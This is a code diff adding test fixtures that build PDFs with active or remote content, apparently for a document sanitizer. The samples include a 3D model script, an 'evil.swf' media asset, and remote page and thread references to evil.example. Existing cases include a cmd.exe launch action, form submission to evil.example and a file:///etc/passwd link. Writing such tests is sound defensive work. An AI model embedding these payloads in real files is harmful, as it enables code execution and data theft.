@@ -43,6 +43,44 @@ def form():
     return pdf(change=change)
 
 
+def with_a_model():
+    """A PDF with a model in three dimensions, which brings a script of its own."""
+
+    def change(made):
+        model = made.make_stream(b"", Type=Name("/3D"), Subtype=Name.U3D)
+        model.OnInstantiate = made.make_stream(b"app.alert(1)")
+        annotation = Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 9, 9])
+        annotation["/3DD"] = made.make_indirect(model)
+        made.pages[0].Annots = Array([made.make_indirect(annotation)])
+
+    return pdf(change=change)
+
+
+def with_media():
+    def change(made):
+        media = Dictionary(Assets=Dictionary(Names=[String("evil.swf"), made.make_stream(b"FWS")]))
+        annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
+        annotation.RichMediaContent = media
+        made.pages[0].Annots = Array([made.make_indirect(annotation)])
+
+    return pdf(change=change)
+
+
+def with_a_stream_from_afar(**keys):
+    """A PDF whose page is drawn from a file or an address outside of it."""
+
+    def change(made):
+        stream = made.make_stream(b"")
+        for key, value in keys.items():
+            stream[f"/{key}"] = value
+        form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
+        form.Ref = Dictionary(F=String("//evil.example/page.pdf"), Page=0)
+        made.pages[0].Contents = stream
+        made.pages[0].Resources = Dictionary(XObject=Dictionary(A=form))
+
+    return pdf(change=change)
+
+
 def described():
     def change(made):
         made.docinfo["/Author"] = "A. Resident"
@@ -70,6 +108,8 @@ def with_an_earlier_version():
 SCRIPT = {"/S": Name.JavaScript, "/JS": String("app.alert(1)")}
 PROGRAM = {"/S": Name.Launch, "/F": String("cmd.exe")}
 SENDING = {"/S": Name.SubmitForm, "/F": String("https://evil.example")}
+THREAD = {"/S": Name.Thread, "/F": String("//evil.example/thread.pdf"), "/D": 0}
+AFAR = Dictionary(FS=Name.URL, F=String("https://evil.example/afar"))
 RUNNING = {"/S": Name.URI, "/URI": String("javascript:alert(1)")}
 LOCAL = {"/S": Name.URI, "/URI": String("file:///etc/passwd")}
 
@@ -83,6 +123,11 @@ HARMLESS = {
     "a pdf with a local link": ("plan.pdf", linked(LOCAL), b"/etc/passwd"),
     "a pdf with a program in it": ("plan.pdf", attached(), b"evil"),
     "a pdf with a form of pages": ("plan.pdf", form(), b"xdp"),
+    "a pdf with a model that runs": ("plan.pdf", with_a_model(), b"/OnInstantiate"),
+    "a pdf with a film": ("plan.pdf", with_media(), b"evil.swf"),
+    "a pdf drawn from afar": ("plan.pdf", with_a_stream_from_afar(F=AFAR), b"/afar"),
+    "a pdf with a page of another": ("plan.pdf", with_a_stream_from_afar(), b"/page.pdf"),
+    "a pdf that goes on elsewhere": ("plan.pdf", linked(THREAD), b"/Thread"),
     "a pdf that names its author": ("plan.pdf", described(), b"A. Resident"),
     "a pdf then an archive": ("plan.pdf", pdf() + ARCHIVE, b"evil.class"),
     "a pdf then a page": ("plan.pdf", pdf() + HTML, b"<script"),
